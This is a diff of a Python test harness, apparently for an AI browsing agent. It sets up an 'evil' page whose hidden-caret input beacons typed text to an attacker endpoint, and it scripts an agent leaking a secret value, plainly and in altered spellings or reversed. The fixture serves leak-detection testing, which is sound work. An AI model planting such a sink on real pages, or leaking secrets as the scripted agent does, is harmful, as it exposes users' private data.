@@ -85,9 +85,7 @@ async def play(folder: Path, value: str, *, declared: bool) -> Played:
         web, evil = stack.enter_context(Web()), stack.enter_context(Web())
         web["/"], web["/in"], evil["/in"] = home(evil), "<p>thank you</p>", "<p>thank you</p>"
         web["/spelled"] = Answer(json.dumps({name: spell(value) for name, spell in SPELLINGS.items()}))
-        evil["/"] = (
-            "<title>Other</title><input aria-label=Sink style='caret-color:transparent' oninput=\"navigator.sendBeacon('/in', this.value)\">"
-        )
+        evil["/"] = f'<title>Other</title>{NO_CARET}<input aria-label=Sink oninput="{SEND}">'
         answers = obeying(evil, NAMED if declared else value, value)
         model = ScriptedModel([*answers, f'exit(message="{value[::-1]}")'])
         settings = config(
